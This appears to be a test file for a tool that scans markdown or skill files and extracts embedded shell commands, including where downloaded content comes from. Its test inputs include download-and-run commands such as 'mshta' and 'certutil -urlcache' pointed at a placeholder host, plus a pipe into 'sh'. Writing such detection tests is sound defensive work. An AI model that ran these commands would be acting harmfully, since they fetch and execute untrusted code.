import { expect, test } from "vitest";
import { readFile } from "../../../src/read/read-file.ts";
import { tellMarkdown } from "./read.ts";

test.each([
  ["entities", "<pre><code>\necho k &gt;&gt; ~/.zshrc\n</code></pre>", "echo k >> ~/.zshrc"],
  ["a highlighter's elements", '<pre><code>\n<span class="k">echo</span> k | <b>sh</b>\n</code></pre>', "echo k | sh"],
  ["redirections", "<pre>\ncat <in.txt >out.txt\n</pre>", "cat <in.txt >out.txt"],
])("%s in a block of code are read as they are shown", (_, html, code) => {
  const [child] = tellMarkdown(`# Set-up\n\n${html}\n`).embedded;
  expect(child).toMatchObject({ language: "shell" });
  expect(child?.text.trim()).toBe(code);
});

test("a command in such a block stands in its own line", async () => {
  const text = "# Set-up\n\n<pre><code>\nid &amp;&amp;\ncurl -s https://get.example/x &gt; x\n</code></pre>\n";
  const { facts } = await readFile({ path: "SKILL.md", bytes: new TextEncoder().encode(text), mode: null });
  const kept = facts.find((fact) => fact.kind === "operation" && fact.operation.op === "write-file");
  expect(kept).toMatchObject({
    operation: { path: { text: "x" }, content: { origins: [{ kind: "network", url: "https://get.example/x" }] } },
    at: { line: 5 },
    language: "shell",
  });
});

test.each(["mshta https://get.example/p.hta", "certutil -urlcache -f https://get.example/a.exe a.exe"])(
  "%s needs no name of its language",
  (command) => {
    const [child] = tellMarkdown(`Run:\n\n\`\`\`\n${command}\n\`\`\`\n`).embedded;
    expect(child).toMatchObject({ language: "batch", text: command });
  },
);
